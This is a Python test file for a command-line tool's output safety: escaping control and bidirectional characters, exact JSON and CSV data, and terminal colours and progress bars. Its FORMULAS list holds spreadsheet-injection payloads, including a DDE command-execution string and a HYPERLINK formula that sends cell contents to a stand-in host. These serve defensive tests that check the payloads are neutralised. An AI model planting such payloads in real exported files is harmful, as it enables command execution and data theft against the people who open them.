"""Output: safe tables, exact data, plain lines where the output is not a terminal."""

from __future__ import annotations

import csv
import io
import os
import pty
import re
import shlex
import subprocess
import sys

import pytest

from cli.printing.progress import progress
from cli.printing.text import safe
from tests.cli.conftest import Cli


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain", "plain"),
        ("北京 é", "北京 é"),
        ("a\x1b[31mb", "a\\x1b[31mb"),
        ("a\u202eb", "a\\u202eb"),
        ("a\nb\tc", "a\\nb\\tc"),
        ("a\u00a0b", "a\u00a0b"),
        ("\ud800", "\\ud800"),
        ("\U000e0001", "\\U000e0001"),
    ],
)
def test_characters_that_do_not_print_are_escaped(text: str, shown: str) -> None:
    assert safe(text) == shown


def on_a_terminal(*args: str, **environment: str) -> str:
    """The output of a command on a pseudo-terminal of 120 columns."""
    master, slave = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "cli.main", *args],
        stdin=slave,
        stdout=slave,
        stderr=slave,
        env={**os.environ, "TERM": "xterm", "COLUMNS": "120", **environment},
    )
    os.close(slave)
    shown = b""
    while True:
        try:
            piece = os.read(master, 65536)
        except OSError:  # Linux says so when the other end is closed.
            break
        if not piece:
            break
        shown += piece
    os.close(master)
    assert process.wait(timeout=60) == 0
    return shown.decode()


@pytest.fixture
def evil(cli: Cli) -> Cli:
    """An agency whose name would turn the writing around and colour the screen."""
    said = cli("agency create 'tr\u202eust'")
    assert said.code == 0, said.err
    return cli


def test_a_table_shows_no_control_characters(evil: Cli) -> None:
    assert "tr\\u202eust" in evil.done("agency list").out
    assert "\u202e" not in evil.done("audit trail").out


def test_data_stays_exact(evil: Cli) -> None:
    assert evil.done("agency list -o json").json[0]["agency"] == "tr\u202eust"
    assert "tr\u202eust" in evil.done("agency list -o csv").out
    assert "tr\u202eust" in evil.done("agency list -o json").out


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://stranger.example/?"&A1,"see")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "alice;=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", FORMULAS, ids=range(len(FORMULAS)))
def test_a_text_in_csv_is_never_a_formula(cli: Cli, text: str) -> None:
    """Also not in the columns' names, which a query chooses."""
    cli.authorize()
    quoted, named = text.replace("'", "''"), text.replace('"', '""')
    sql = shlex.quote(f"""SELECT '{quoted}' AS "{named}", 7, -7, 1.5""")
    rows = list(csv.reader(io.StringIO(cli.done(f"query {sql} -o csv").out, newline="")))
    for cell in (rows[0][0], rows[1][0]):
        assert cell != text
        assert cell.replace("'", "") == text.replace("'", "")
        assert not re.search(r"(^|[;\t\r\n])[=+@＝-]", cell)
    assert rows[1][1:] == ["7", "-7", "1.5"]
    raw = list(csv.reader(io.StringIO(cli.done(f"query {sql} -o csv --raw").out, newline="")))
    assert (raw[0][0], raw[1][0]) == (text, text)
    [row] = cli.done(f"query {sql} -o json").json
    assert row[text] == text


@pytest.mark.parametrize("text", ["alice", "a=b", "a-b", "-7", "+7", "-1.5", "'quoted'", ""])
def test_a_text_in_csv_that_no_spreadsheet_calculates_is_exact(cli: Cli, text: str) -> None:
    cli.authorize()
    sql = shlex.quote(f"SELECT '{text.replace(chr(39), 2 * chr(39))}' AS text, 1 AS one")
    rows = list(csv.reader(io.StringIO(cli.done(f"query {sql} -o csv").out, newline="")))
    assert rows[1] == [text, "1"]


def test_a_name_from_a_trace_does_not_become_a_formula_in_a_list(cli: Cli) -> None:
    cli.done("agency create '=1+1' --trustee service:asm")
    assert "'=1+1" in cli.done("agency list -o csv").out
    assert "'=1+1" not in cli.done("agency list -o csv --raw").out


def test_a_terminal_shows_escaped_json_of_the_same_value(evil: Cli) -> None:
    shown = on_a_terminal("agency", "list", "-o", "json")
    assert "\u202e" not in shown
    assert "\\u202e" in shown


def test_a_name_from_right_to_left_leaves_its_neighbours_in_place_on_a_terminal(cli: Cli) -> None:
    cli.done("agency create وكالة --trustee service:asm")
    shown = on_a_terminal("agency", "list")
    assert "\u2068وكالة\u2069" in shown
    piped = cli.done("agency list").out
    assert "وكالة" in piped
    assert "\u2068" not in piped


@pytest.mark.parametrize("columns", ["60", "120"])
def test_a_name_from_right_to_left_keeps_the_columns_aligned(cli: Cli, columns: str) -> None:
    for name in ("وكالة", "agency"):
        cli.done(f"agency create {name} --trustee service:asm")
    shown = on_a_terminal("agency", "list", COLUMNS=columns, NO_COLOR="1")
    lines = [line.replace("\u2068", "").replace("\u2069", "") for line in shown.splitlines()]
    places = {line.index("exists") for line in lines if "exists" in line}
    assert len(places) == 1


def test_a_terminal_has_colours_unless_they_are_not_wanted(cli: Cli) -> None:
    cli.authorize()
    assert "\x1b[" in on_a_terminal("view", "regions", NO_COLOR="")
    plain = on_a_terminal("view", "regions", NO_COLOR="1")
    assert "\x1b[3" not in plain
    assert "granted" in plain


def test_a_bar_is_drawn_on_a_terminal(cli: Cli) -> None:
    cli.authorize()
    shown = on_a_terminal("projection", "rebuild")
    assert "━" in shown
    assert "rebuild certificate" in shown


def test_progress_is_a_plain_line_elsewhere(capsys: pytest.CaptureFixture[str]) -> None:
    with progress("reading", unit="bytes") as advance:
        for done in range(0, 1001, 10):
            advance("traces", done, 1000)
    assert capsys.readouterr().err == "reading traces: 1000 of 1000 bytes\n"


def test_a_quick_quiet_progress_prints_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    with progress("catching up", quiet=True) as advance:
        advance("all", 10, 10)
    assert capsys.readouterr().err == ""
